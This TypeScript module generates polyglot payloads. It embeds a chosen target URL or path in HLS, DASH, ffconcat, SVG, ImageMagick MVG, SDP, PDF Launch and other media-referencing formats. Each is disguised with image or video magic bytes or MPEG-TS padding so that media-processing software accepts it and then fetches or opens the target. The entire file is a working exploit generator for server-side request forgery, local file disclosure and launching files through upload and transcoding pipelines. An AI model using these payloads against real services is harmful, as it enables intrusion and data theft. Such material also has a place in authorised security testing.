/** A text that names other files, made to pass for a video or an image. */
export type Polyglot = { name: string; bytes: Buffer };

/** Bytes between the sync bytes of MPEG-TS: with a time stamp (M2TS), plain, with error correction. */
const packetSizes = [192, 188, 204];

/**
 * Manifests, playlists, scripts and documents that make a reader open `target`, each in disguises that pass for media by their first
 * bytes.
 * @param target an address or a path
 */
export function makePolyglots(target: string): Polyglot[] {
  return Object.entries(referringTexts(target)).flatMap(([kind, text]) => [
    ...packetSizes.map((size) => ({ name: `${kind} as MPEG-TS of ${size}`, bytes: asTransportStream(text, size) })),
    ...Object.entries(magicBytes).map(([type, head]) => ({
      name: `${kind} as ${type}`,
      bytes: Buffer.concat([head, Buffer.from(text)]),
    })),
    { name: kind, bytes: Buffer.from(text) },
  ]);
}

/** First bytes by which types are told. */
const magicBytes: Record<string, Buffer> = {
  BMP: Buffer.from('BM\n'),
  GIF: Buffer.from('GIF89a\n'),
  FLV: Buffer.from('FLV\x01\n'),
  AVI: Buffer.from('RIFF\x10\x00\x00\x00AVI \n'),
  JPEG: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x0a]),
  'MPEG-PS': Buffer.from([0, 0, 1, 0xba, 0x44, 0x0a]),
  MP4: Buffer.from('\x00\x00\x00\x14ftypisom\x00\x00\x00\x00isom'),
  TIFF: Buffer.from('II*\x00\n'),
};

/** Puts a comment before a text that has sync bytes where packets would begin. */
function asTransportStream(text: string, size: number): Buffer {
  const opening = text.startsWith('<') ? '<!--' : size === 192 ? '    ' : '';
  const filler = Buffer.alloc(8 * size, '.');
  for (let at = size === 192 ? 4 : 0; at < filler.length; at += size) filler[at] = 0x47;
  if (size === 192) filler.write(opening, 0, 'latin1');
  filler.write(text.startsWith('<') ? '-->' : '\n', filler.length - 3, 'latin1');
  return Buffer.concat([filler, Buffer.from(text)]);
}

const referringTexts = (target: string): Record<string, string> => ({
  DASH: `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static"
 mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000"
 codecs="avc1.64000a" width="160" height="90"><BaseURL>${target}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  HLS: `#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n${target}\n#EXT-X-ENDLIST\n`,
  concat: `ffconcat version 1.0\nfile '${target}'\n`,
  IMF: `<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><EditRate>25 1</EditRate>
<SegmentList><Path>${target}</Path></SegmentList></CompositionPlaylist>`,
  'Smooth Streaming': `<SmoothStreamingMedia MajorVersion="2" MinorVersion="0" Duration="20000000"><StreamIndex Type="video" Chunks="1"
 Url="${target}"><QualityLevel Index="0" Bitrate="1000" FourCC="H264"/><c d="20000000"/></StreamIndex></SmoothStreamingMedia>`,
  SMIL: `<smil xmlns="http://www.w3.org/ns/SMIL"><body><video src="${target}"/></body></smil>`,
  SDP: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=-\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${target}\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  SVG: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image width="64"
 height="64" xlink:href="${target}" href="${target}"/></svg>`,
  VobSub: `# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n# ${target}\ntimestamp: 00:00:00:000, filepos: 000000000\n`,
  'RealMedia playlist': `rtsp://127.0.0.1/x\n${target}\n`,
  'TED captions': `{"captions":[{"duration":2000,"content":"${target}","startOfParagraph":true,"startTime":0}]}`,
  MVG: `push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 64,64 '${target}'\npop graphic-context\n`,
  PDF: `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(${target})>>>>endobj\ntrailer<</Root 1 0 R>>\n`,
});
